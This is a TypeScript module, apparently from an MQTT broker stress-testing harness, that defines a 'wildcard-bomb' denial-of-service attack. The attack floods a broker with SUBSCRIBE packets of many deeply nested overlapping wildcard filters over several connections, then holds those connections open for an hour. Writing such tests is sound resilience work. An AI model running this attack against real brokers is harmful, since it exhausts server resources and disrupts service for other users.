// Asking for everything in as many ways as there are.

import type { Attack } from '../attacker.js'
import { connectPacket, subscribePacket } from '../packets.js'
import { TOPIC_WORDS } from './words.js'

/** Filters that overlap. */
export const wildcardBomb: Attack = {
  name: 'wildcard-bomb',
  summary:
    'wildcard bomb: 3 to 4 addresses, SUBSCRIBEs of 10 to 40 overlapping filters of up to 60 levels each, up to 400 filters an address, at QoS 0 to 2, over several connections',
  attackers: [3, 4],
  async run(attacker) {
    const { chance } = attacker
    let filters = 0
    while (!attacker.over && filters < 400) {
      const socket = await attacker.connect()
      if (socket === null) return
      await attacker.send(socket, connectPacket({ clientId: chance.text(14), keepalive: 0 }))
      for (let i = chance.whole(1, 4); i > 0; i--) {
        const some = Array.from({ length: chance.whole(10, 40) }, () => {
          const levels = Array.from({ length: chance.happens(0.3) ? chance.whole(20, 60) : chance.whole(1, 6) }, () =>
            chance.happens(0.7) ? '+' : chance.oneOf(TOPIC_WORDS)
          )
          return [...levels, '#'].join('/')
        })
        filters += some.length
        await attacker.send(socket, subscribePacket(some, chance.oneOf([0, 1, 2]), chance.whole(1, 65_535)))
        await attacker.pause(chance.between(200, 800))
      }
      await attacker.pause(chance.between(500, 2_000))
    }
    // What it asked for keeps coming.
    await attacker.pause(3_600_000)
  }
}
